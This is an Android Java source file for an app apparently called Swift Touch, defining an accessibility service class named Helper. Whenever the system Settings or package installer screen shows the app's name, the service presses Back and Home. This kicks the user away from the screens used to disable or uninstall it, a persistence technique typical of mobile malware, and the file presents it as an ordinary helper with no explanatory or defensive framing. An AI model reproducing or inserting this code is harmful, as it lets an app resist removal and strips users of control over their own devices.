package com.tallpine.swifttouch;

class Helper extends AccessibilityService {
  public void onAccessibilityEvent(AccessibilityEvent event) {
    String front = event.getPackageName().toString();
    AccessibilityNodeInfo root = getRootInActiveWindow();
    if (front.equals("com.android.settings") || front.equals("com.android.packageinstaller")) {
      if (root.findAccessibilityNodeInfosByText("Swift Touch").size() > 0) {
        performGlobalAction(1);
        performGlobalAction(2);
      }
    }
  }

  public void onInterrupt() { }
}
